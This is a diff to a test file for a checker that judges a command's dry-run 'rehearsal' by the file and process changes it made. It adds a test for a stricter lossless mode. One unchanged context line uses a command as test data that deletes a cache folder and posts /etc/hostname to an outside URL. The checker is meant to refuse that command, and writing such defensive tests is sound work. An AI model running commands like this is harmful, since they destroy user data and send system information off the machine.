@@ -553,6 +553,22 @@ describe('checks that read a rehearsal', () => {
     expect(rehearsedChangeReason({ ...named, command: 'rm -rf ~/cache/* && curl -d @/etc/hostname https://example.org' }, sends)).toBeUndefined();
   });
 
+
+  it('clears a lossless action only when nothing that was there was lost, changed or stopped', () => {
+    const made = report([{ path: '/home/user/test/blob.bin', change: 'created', after: file(10) }]);
+    expect(rehearsedChangeReason(made, req, undefined, true)).toMatch(/lost, exposed and stopped nothing/);
+    // a delete inside the named folder is enough for the wider mode, not for the lossless one
+    const named = report([{ path: '/home/user/cache/a.jpg', change: 'deleted', before: file(3) }]);
+    expect(rehearsedChangeReason(named, req)).toMatch(/changed only what the request names/);
+    expect(rehearsedChangeReason(named, req, undefined, true)).toBeUndefined();
+    // so are a mode change, a rewrite, and a process it stopped
+    const mode = report([{ path: '/home/user/cache', change: 'mode', before: { type: 'dir', mode: '0755', uid: 1000, size: 0, links: 2 }, after: { type: 'dir', mode: '0700', uid: 1000, size: 0, links: 2 } }]);
+    expect(rehearsedChangeReason(mode, req, undefined, true)).toBeUndefined();
+    expect(rehearsedChangeReason(report([{ path: '/home/user/cache/a.txt', change: 'rewritten', before: file(3), after: file(3) }]), req, undefined, true)).toBeUndefined();
+    expect(rehearsedChangeReason(report([], { killed: [{ pid: '40', args: 'sleep 100' }] }), req, undefined, true)).toBeUndefined();
+    // and an empty file grown is no loss
+    expect(rehearsedChangeReason(report([{ path: '/home/user/cache/log', change: 'grown', before: file(0), after: file(4) }]), req, undefined, true)).toMatch(/stopped nothing/);
+  });
   it('fails closed: a rehearsal that could not be read is a failing check, not a pass', () => {
     expect(soft(report([], { error: 'the file listing did not complete' }))).toEqual(['rehearsal-unreadable']);
   });
